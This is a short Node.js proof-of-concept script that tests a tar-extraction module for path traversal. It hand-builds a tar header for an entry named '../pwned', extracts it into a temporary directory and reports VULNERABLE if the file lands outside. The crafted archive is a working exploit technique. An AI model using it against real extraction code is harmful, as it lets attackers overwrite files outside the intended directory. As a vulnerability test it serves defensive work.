const m = require(process.argv[2]);
const fs = require('node:fs'),
  p = require('node:path'),
  d = fs.mkdtempSync('/tmp/js-poc-'),
  out = p.join(d, 'out');
fs.mkdirSync(out);
const H = (n) => {
  const b = Buffer.alloc(512);
  b.write(n, 0);
  b.write('0000644\0', 100);
  b.write('0000000\0', 108);
  b.write('0000000\0', 116);
  b.write('00000000003\0', 124);
  b.write('00000000000\0', 136);
  b.write('        ', 148);
  b.write('0', 156);
  b.write('ustar\x0000', 257);
  let s = 0;
  for (const c of b) s += c;
  b.write(`${s.toString(8).padStart(6, '0')}\0 `, 148);
  return b;
};
const t = Buffer.concat([H('../pwned'), Buffer.from('pwn'), Buffer.alloc(509 + 1024)]);
m(t, out)
  .catch(() => {})
  .then(() => {
    const r = fs.existsSync(p.join(d, 'pwned'));
    fs.rmSync(d, { recursive: true });
    console.log(r ? 'VULNERABLE' : 'ok');
    process.exit(r ? 1 : 0);
  });
